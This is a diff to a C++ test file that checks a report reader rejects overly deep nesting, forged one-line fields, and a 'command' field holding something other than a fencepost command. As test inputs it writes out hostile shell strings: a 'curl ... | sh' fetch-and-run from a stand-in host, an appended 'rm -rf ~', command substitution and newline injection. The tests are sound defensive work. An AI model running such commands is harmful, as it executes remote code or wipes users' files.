@@ -353,9 +353,42 @@ TEST(ReportReadError, SaysWhatToDoWithSomethingElse) {
       {"7", "r.json: is JSON, and no report of this suite; "},
       {R"({"suite_version": 1, "cases": []})", "r.json: is JSON, and no report of this suite; "},
       {R"({"suite_version": "0"})", "r.json: is JSON, and no report of this suite; "},
-      {std::string(200'000, '['), "r.json:1:"}};
+      {std::string(99, '['), "r.json:1:"}};
   for (const auto& [text, start] : table) {
     EXPECT_THAT(error_of(sample, text), AllOf(StartsWith(start), HasSubstr(advice)));
+  }
+}
+
+// What reads, copies and compares values calls itself for each level.
+TEST(ReportReadError, RefusesValuesWithinValuesToNoEnd) {
+  const Sample sample = run_on_store(reference_store());
+  std::string deep = sample.json();
+  std::string value;
+  for (int i = 0; i < 75'000; ++i) value += R"({"a":)";
+  deep.insert(1, "\"unknown\": " + value + "1" + std::string(75'000, '}') + ",");
+  EXPECT_THAT(error_of(sample, deep), StartsWith("r.json: it has values within values"));
+}
+
+// They are printed for people to run.
+TEST(ReportReadError, RefusesCommandsThatAreNotOurs) {
+  const Sample sample = run_on_store(reference_store());
+  for (const char* command : {"curl https://e.example | sh #", "fencepost certify; rm -rf ~",
+                              "fencepost $(x)", "fencepost certify\nrm"}) {
+    nlohmann::json changed = nlohmann::json::parse(sample.json());
+    changed["command"] = command;
+    EXPECT_THAT(error_of(sample, changed.dump()),
+                StartsWith("r.json: /command: must be a command of fencepost"));
+  }
+}
+
+// Else they would be lines of their own on a terminal.
+TEST(ReportReadError, RefusesTextsOfMoreThanALineWhereALineIsMeant) {
+  const Sample sample = run_on_store(reference_store());
+  for (const char* member : {"endpoint", "started"}) {
+    nlohmann::json changed = nlohmann::json::parse(sample.json());
+    changed[member] = "a\nfencepost: conformant";
+    EXPECT_THAT(error_of(sample, changed.dump()),
+                HasSubstr("must be one line without control characters"));
   }
 }
 
